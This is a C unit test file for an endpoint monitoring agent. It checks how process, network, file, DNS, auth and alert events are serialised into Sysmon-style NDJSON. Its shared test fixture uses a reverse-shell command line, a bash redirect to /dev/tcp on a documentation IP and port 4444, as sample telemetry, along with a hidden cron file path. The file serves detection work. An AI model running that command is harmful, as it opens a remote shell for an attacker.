/*
 * test_event_json.c - agent events as Sysmon-for-Linux NDJSON: field names and value forms
 * as rules/linux expect them, escaping of hostile bytes, logsource of our own kinds, and
 * the buffer bound.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include <cmocka.h>

#include "agent/event_json.h"
#include "bannin/error.h"
#include "bannin/reader.h"

#define BOOT "0123abcd-1111-2222-3333-444455556666"

/* Parses line with the NDJSON reader and returns the value of key ("" if absent) in buf. */
static const char *
field(const char *line, const char *key, char *buf, size_t size)
{
    struct bn_reader *r;
    struct bn_record *rec;
    struct bn_diag d;
    buf[0] = '\0';
    assert_int_equal(bn_reader_open_mem(&r, line, strlen(line), "t", BN_FMT_NDJSON, &d), 0);
    assert_int_equal(bn_reader_next(r, &rec, &d), 0);
    const struct bn_kv *kv = bn_record_get(rec, key);
    if (kv)
        snprintf(buf, size, "%.*s", (int)kv->val_len, kv->val);
    assert_int_equal(bn_reader_next(r, &rec, &d), BN_EOF);
    bn_reader_free(r);
    return buf;
}

static void
expect(const char *line, const char *key, const char *val)
{
    char buf[4096];
    field(line, key, buf, sizeof(buf));
    if (strcmp(buf, val) != 0)
        fail_msg("%s: got '%s', want '%s' in %s", key, buf, val, line);
}

static void
base_event(struct agent_event *ev, enum agent_kind kind)
{
    memset(ev, 0, sizeof(*ev));
    ev->kind = kind;
    ev->tier = AGENT_TIER_BPF;
    ev->ts_ns = 1795600800123456789LL; /* 2026-11-25 10:00:00.123 */
    ev->seq = 42;
    ev->proc.pid = 4007;
    ev->proc.start_ns = 0x123456789abcULL;
    ev->proc.exe = "/usr/bin/bash";
    ev->proc.cmdline = "bash -c bash -i >& /dev/tcp/203.0.113.50/4444 0>&1";
    ev->proc.cwd = "/var/www/html";
    ev->proc.uid = ev->proc.euid = 0;
    ev->proc.loginuid = 1000;
    snprintf(ev->proc.sha256, sizeof(ev->proc.sha256), "%s",
             "82c0aad1330a0c428ee3f9b7ff0d5ba7e5238c550c58c17aa4ed27382902e002");
    ev->parent.pid = 4014;
    ev->parent.exe = "/usr/sbin/apache2";
    ev->parent.cmdline = "/usr/sbin/apache2 -k start";
}

static void
test_process_create(void **state)
{
    struct agent_event ev;
    struct bn_buf b;
    base_event(&ev, AGENT_EV_PROCESS_CREATE);
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    assert_true(strncmp(b.p, "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,", 49) == 0);
    assert_null(strchr(b.p, '\n'));
    expect(b.p, "UtcTime", "2026-11-25 10:00:00.123");
    expect(b.p, "Computer", "web-01");
    expect(b.p, "ProcessId", "4007");
    expect(b.p, "Image", "/usr/bin/bash");
    expect(b.p, "CommandLine", "bash -c bash -i >& /dev/tcp/203.0.113.50/4444 0>&1");
    expect(b.p, "CurrentDirectory", "/var/www/html");
    expect(b.p, "User", "root");
    expect(b.p, "LogonId", "1000");
    expect(b.p, "ParentProcessId", "4014");
    expect(b.p, "ParentImage", "/usr/sbin/apache2");
    expect(b.p, "ParentCommandLine", "/usr/sbin/apache2 -k start");
    expect(b.p, "ParentUser", "root");
    expect(b.p, "Hashes", "SHA256=82C0AAD1330A0C428EE3F9B7FF0D5BA7E5238C550C58C17AA4ED27382902E002");
    expect(b.p, "ProcessGuid", "{0123abcd-0000-1234-5678-9abc00000fa7}");
    expect(b.p, "bannin.seq", "42");
    expect(b.p, "bannin.tier", "bpf");
    expect(b.p, "bannin.truncated", "");
    expect(b.p, "ContainerId", "");
    bn_buf_release(&b);

    /* A process in a container: the short id (as docker ps shows it) and the full one. */
    snprintf(ev.proc.container_id, sizeof(ev.proc.container_id), "%s",
             "4f66ad9a0b2e4a8f9c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b");
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "ContainerId", "4f66ad9a0b2e");
    expect(b.p, "bannin.ContainerIdFull", ev.proc.container_id);
    bn_buf_release(&b);
    ev.proc.container_id[0] = '\0';

    /* Truncated command lines and deleted executables are flagged. */
    ev.proc.cmdline_truncated = true;
    ev.proc.exe_deleted = true;
    ev.proc.exe = NULL; /* falls back to comm */
    snprintf(ev.proc.comm, sizeof(ev.proc.comm), "kworker");
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "bannin.truncated", "true");
    expect(b.p, "bannin.exe_deleted", "true");
    expect(b.p, "Image", "kworker");
    bn_buf_release(&b);
}

static void
test_hostile_bytes(void **state)
{
    struct agent_event ev;
    struct bn_buf b;
    char cmd[200];
    base_event(&ev, AGENT_EV_PROCESS_CREATE);
    snprintf(cmd, sizeof(cmd), "evil \xff\xfe\"quote\" \\back \x01 \xc3\x28 end");
    ev.proc.cmdline = cmd;
    ev.proc.cwd = NULL;
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    assert_true(bn_utf8_valid(b.p, b.len));
    char got[512];
    field(b.p, "CommandLine", got, sizeof(got));
    assert_non_null(strstr(got, "\"quote\" \\back \x01"));
    assert_non_null(strstr(got, "\xef\xbf\xbd")); /* U+FFFD */
    assert_non_null(strstr(got, " end"));
    expect(b.p, "CurrentDirectory", "");
    bn_buf_release(&b);
}

static void
test_network(void **state)
{
    struct agent_event ev;
    struct bn_buf b;
    base_event(&ev, AGENT_EV_NET_CONNECT);
    ev.proto = IPPROTO_TCP;
    ev.family = AF_INET;
    ev.initiated = true;
    inet_pton(AF_INET, "10.0.1.10", ev.saddr);
    inet_pton(AF_INET, "203.0.113.50", ev.daddr);
    ev.sport = 51514;
    ev.dport = 4444;
    snprintf(ev.community_id, sizeof(ev.community_id), "1:abc=");
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "EventID", "3");
    expect(b.p, "Protocol", "tcp");
    expect(b.p, "Initiated", "true");
    expect(b.p, "SourceIp", "10.0.1.10");
    expect(b.p, "SourcePort", "51514");
    expect(b.p, "DestinationIp", "203.0.113.50");
    expect(b.p, "DestinationPort", "4444");
    expect(b.p, "CommunityId", "1:abc=");
    expect(b.p, "CommandLine", ""); /* only process creation carries it */
    bn_buf_release(&b);

    ev.family = AF_INET6;
    ev.proto = IPPROTO_UDP;
    ev.initiated = false;
    memset(ev.saddr, 0, 16);
    ev.saddr[15] = 1;
    memset(ev.daddr, 0, 16);
    ev.daddr[10] = ev.daddr[11] = 0xff;
    ev.daddr[12] = 127;
    ev.daddr[15] = 1;
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "Protocol", "udp");
    expect(b.p, "Initiated", "false");
    expect(b.p, "SourceIp", "::1");
    expect(b.p, "DestinationIp", "127.0.0.1");
    bn_buf_release(&b);
}

static void
test_files_dns(void **state)
{
    struct agent_event ev;
    struct bn_buf b;
    base_event(&ev, AGENT_EV_FILE_CREATE);
    ev.path = "/etc/cron.d/.sysupdate";
    ev.category = "persistence";
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "EventID", "11");
    expect(b.p, "TargetFilename", "/etc/cron.d/.sysupdate");
    expect(b.p, "logsource.category", ""); /* the mapping derives it from EventID */
    expect(b.p, "bannin.category", "persistence");
    bn_buf_reset(&b);

    ev.kind = AGENT_EV_FILE_WRITE;
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "EventID", "100");
    expect(b.p, "logsource.product", "linux");
    expect(b.p, "logsource.category", "file_event");
    bn_buf_reset(&b);

    ev.kind = AGENT_EV_FILE_RENAME;
    ev.path = "/tmp/x";
    ev.path2 = "/etc/cron.d/x";
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "SourceFilename", "/tmp/x");
    expect(b.p, "TargetFilename", "/etc/cron.d/x");
    bn_buf_reset(&b);

    ev.kind = AGENT_EV_FILE_ATTR;
    ev.mode = 04755;
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "bannin.Mode", "4755");
    bn_buf_reset(&b);

    base_event(&ev, AGENT_EV_DNS_QUERY);
    ev.query = "example.org";
    ev.answers = "93.184.216.34";
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "EventID", "22");
    expect(b.p, "logsource.category", "dns_query");
    expect(b.p, "QueryName", "example.org");
    expect(b.p, "QueryResults", "93.184.216.34");
    bn_buf_release(&b);
}

static void
test_auth(void **state)
{
    struct agent_event ev;
    struct bn_buf b;
    char v0[] = "sshd", v1[] = "sshd", v2[] = "Failed password for root from 203.0.113.50 port "
                                            "53822 ssh2",
         v3[] = "203.0.113.50";
    base_event(&ev, AGENT_EV_AUTH);
    ev.extra_keys[0] = "service";
    ev.extra_vals[0] = v0;
    ev.extra_keys[1] = "program";
    ev.extra_vals[1] = v1;
    ev.extra_keys[2] = "message";
    ev.extra_vals[2] = v2;
    ev.extra_keys[3] = "SourceIp";
    ev.extra_vals[3] = v3;
    ev.nextra = 4;
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "EventID", "110");
    expect(b.p, "logsource.product", "linux");
    expect(b.p, "logsource.service", "sshd");
    expect(b.p, "host", "web-01");
    expect(b.p, "program", "sshd");
    expect(b.p, "message", v2);
    expect(b.p, "SourceIp", "203.0.113.50");
    expect(b.p, "service", "");
    bn_buf_reset(&b);
    ev.nextra = 0; /* no service: the umbrella "auth" */
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "logsource.service", "auth");
    bn_buf_release(&b);
}

static void
test_bound(void **state)
{
    struct agent_event ev;
    struct bn_buf b;
    base_event(&ev, AGENT_EV_PROCESS_CREATE);
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(bn_buf_puts(&b, "prefix"), 0);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    size_t full = b.len;
    bn_buf_release(&b);
    for (size_t max = 6; max < full; max += 7) {
        bn_buf_init(&b, max);
        assert_int_equal(bn_buf_puts(&b, "prefix"), 0);
        assert_int_equal(agent_event_to_json(&ev, &b), BN_ETOOBIG);
        assert_int_equal(b.len, 6);
        assert_string_equal(b.p, "prefix");
        bn_buf_release(&b);
    }
}

/*
 * Alerts embed the triggering event and the ancestry as nested JSON (not strings); text
 * that is not exactly one well-formed object or array stays a string, so the line is
 * always valid JSON.
 */
static void
test_alert_nested(void **state)
{
    (void)state;
    struct agent_event trig, al;
    struct bn_buf tb, b;
    char buf[4096];
    base_event(&trig, AGENT_EV_PROCESS_CREATE);
    bn_buf_init(&tb, 1 << 20);
    assert_int_equal(agent_event_to_json(&trig, &tb), 0);
    char anc[] = "[{\"ProcessId\":4014,\"Image\":\"/usr/sbin/apache2\",\"CommandLine\":"
                 "\"/usr/sbin/apache2 -k start\",\"UserId\":33},{\"ProcessId\":1,\"Image\":"
                 "\"/sbin/init\",\"CommandLine\":\"caf\xc3\xa9 \\u00e9\",\"UserId\":0}]";
    char title[] = "Reverse Shell";
    base_event(&al, AGENT_EV_ALERT);
    al.extra_keys[0] = "rule_title";
    al.extra_vals[0] = title;
    al.extra_keys[1] = "trigger";
    al.extra_vals[1] = tb.p;
    al.extra_keys[2] = "ancestry";
    al.extra_vals[2] = anc;
    al.nextra = 3;
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&al, &b), 0);
    /* the trigger is the event's own line, verbatim, as an object */
    snprintf(buf, sizeof(buf), "\"trigger\":%s,", tb.p);
    assert_non_null(strstr(b.p, buf));
    snprintf(buf, sizeof(buf), "\"ancestry\":%s,", anc);
    assert_non_null(strstr(b.p, buf));
    expect(b.p, "EventID", "140");
    expect(b.p, "rule_title", "Reverse Shell");
    expect(b.p, "bannin.seq", "42");
    bn_buf_reset(&b);

    /* not one well-formed value: kept as (escaped) strings */
    static const char *const bad[] = {
        "{\"a\":1",          "{\"a\":1}}",        "[1,]",           "{\"a\" 1}",
        "[\"\xff\"]",          "[\"\xed\xa0\x80\"]",  "[\"a\nb\"]",       "[01]",
        "[1.]",             "[\"\\x\"]",          "{} {}",          "text",
        "[tru]",            "[\"\\u12g4\"]",      "",               "\"just a string\"",
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        al.extra_vals[1] = (char *)bad[i];
        al.extra_vals[2] = (char *)bad[i];
        bn_buf_reset(&b);
        assert_int_equal(agent_event_to_json(&al, &b), 0);
        assert_non_null(strstr(b.p, "\"trigger\":\""));
        assert_non_null(strstr(b.p, "\"ancestry\":\""));
        assert_true(bn_utf8_valid(b.p, b.len));
        expect(b.p, "rule_title", "Reverse Shell"); /* still one parseable object */
    }
    /* nesting deeper than BN_JSON_DEPTH_MAX stays a string */
    char deep[300];
    memset(deep, '[', 149);
    deep[149] = '1';
    memset(deep + 150, ']', 149);
    deep[299] = '\0';
    al.extra_vals[1] = deep;
    bn_buf_reset(&b);
    assert_int_equal(agent_event_to_json(&al, &b), 0);
    assert_non_null(strstr(b.p, "\"trigger\":\"[[["));
    /* JSON the agent built itself (extra_json) is embedded without a second check */
    al.extra_vals[1] = tb.p;
    al.extra_json = 1u << 1;
    bn_buf_reset(&b);
    assert_int_equal(agent_event_to_json(&al, &b), 0);
    snprintf(buf, sizeof(buf), "\"trigger\":%s,", tb.p);
    assert_non_null(strstr(b.p, buf));
    al.extra_json = 0;
    /* the same nesting on another kind is never embedded */
    al.kind = AGENT_EV_TAMPER;
    al.extra_vals[1] = tb.p;
    bn_buf_reset(&b);
    assert_int_equal(agent_event_to_json(&al, &b), 0);
    assert_non_null(strstr(b.p, "\"trigger\":\"{"));
    bn_buf_release(&b);
    bn_buf_release(&tb);
}

/* Numbers, times and keys written by hand (not printf): edges. */
static void
test_hand_formatting(void **state)
{
    (void)state;
    struct agent_event ev;
    struct bn_buf b;
    base_event(&ev, AGENT_EV_PROCESS_TERMINATE);
    ev.exit_code = -2147483647 - 1;
    ev.ts_ns = 1795600800005000000LL; /* .005 */
    ev.seq = 0;
    ev.extra_keys[0] = "odd \"key\"\\";
    ev.extra_vals[0] = (char *)"v";
    ev.nextra = 1;
    bn_buf_init(&b, 1 << 20);
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "bannin.ExitCode", "-2147483648");
    expect(b.p, "bannin.seq", "0");
    expect(b.p, "UtcTime", "2026-11-25 10:00:00.005");
    expect(b.p, "odd \"key\"\\", "v");
    bn_buf_reset(&b);
    ev.ts_ns = 1795600801999000000LL; /* the next second, .999 */
    ev.exit_code = 255;
    assert_int_equal(agent_event_to_json(&ev, &b), 0);
    expect(b.p, "UtcTime", "2026-11-25 10:00:01.999");
    expect(b.p, "bannin.ExitCode", "255");
    bn_buf_release(&b);
    char g[48], small[8];
    agent_process_guid(4007, 0x123456789abcULL, g, sizeof(g));
    assert_string_equal(g, "{0123abcd-0000-1234-5678-9abc00000fa7}");
    agent_process_guid(4007, 0x123456789abcULL, small, sizeof(small));
    assert_string_equal(small, "{0123ab"); /* cut, still terminated */
}

int
main(void)
{
    agent_json_set_host("web-01", BOOT);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_process_create),
        cmocka_unit_test(test_hand_formatting), cmocka_unit_test(test_hostile_bytes),
        cmocka_unit_test(test_network),        cmocka_unit_test(test_files_dns),
        cmocka_unit_test(test_auth),           cmocka_unit_test(test_bound),
        cmocka_unit_test(test_alert_nested),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
